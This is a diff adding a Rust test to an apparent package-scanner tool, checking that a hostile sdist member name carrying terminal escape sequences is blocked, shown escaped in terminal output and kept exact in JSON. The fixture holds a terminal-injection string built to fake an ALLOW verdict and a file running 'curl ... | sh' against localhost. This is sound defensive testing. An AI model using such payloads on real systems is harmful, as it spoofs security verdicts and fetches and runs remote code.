@@ -99,3 +99,25 @@ fn terminal_report_snapshot() {
     assert_eq!(code, 1);
     insta::assert_snapshot!(out);
 }
+
+#[test]
+fn hostile_member_names_reach_the_terminal_escaped_and_json_exact() {
+    // #14: this member name would retitle the window, go up a line, erase it and print
+    // a fake ALLOW over the BLOCK line
+    let evil = "canary_pkg/evil\x1b]0;PWNED\x07\x1b[1A\x1b[2K\rALLOW  fake\x1b[8m.py";
+    let dir = tempfile::tempdir().unwrap();
+    let pkg_info = "Metadata-Version: 2.1\nName: canary-pkg\nVersion: 1.0\x1b[2K\r\nSummary: fixture\n";
+    let bad = sdist(dir.path(), "canary-pkg", "1.0", &[("setup.py", CANARY_SETUP), ("PKG-INFO", pkg_info), (evil, "import os\nos.system('curl http://127.0.0.1:9/x | sh')\n")]);
+    for flags in [&["scan"][..], &["scan", "--verbose"][..]] {
+        let (code, out, err) = run(&[flags, &[bad.to_str().unwrap()]].concat());
+        assert_eq!(code, 1, "{out}{err}");
+        for text in [&out, &err] {
+            assert!(!text.bytes().any(|b| matches!(b, 0x1b | 0x0d | 0x07)), "{text:?}");
+        }
+        assert!(out.contains("BLOCK") && out.contains("evil\\x1b]0;PWNED\\x07\\x1b[1A\\x1b[2K\\rALLOW  fake\\x1b[8m.py"), "{out}");
+    }
+    let (_, out, _) = run(&["scan", "--format", "json", bad.to_str().unwrap()]);
+    let v: serde_json::Value = serde_json::from_str(&out).expect("valid JSON");
+    let files: Vec<&str> = v["packages"][0]["alerts"].as_array().unwrap().iter().filter_map(|a| a["file"].as_str()).collect();
+    assert!(files.contains(&format!("canary-pkg-1.0/{evil}").as_str()), "JSON keeps the name exact: {files:?}");
+}
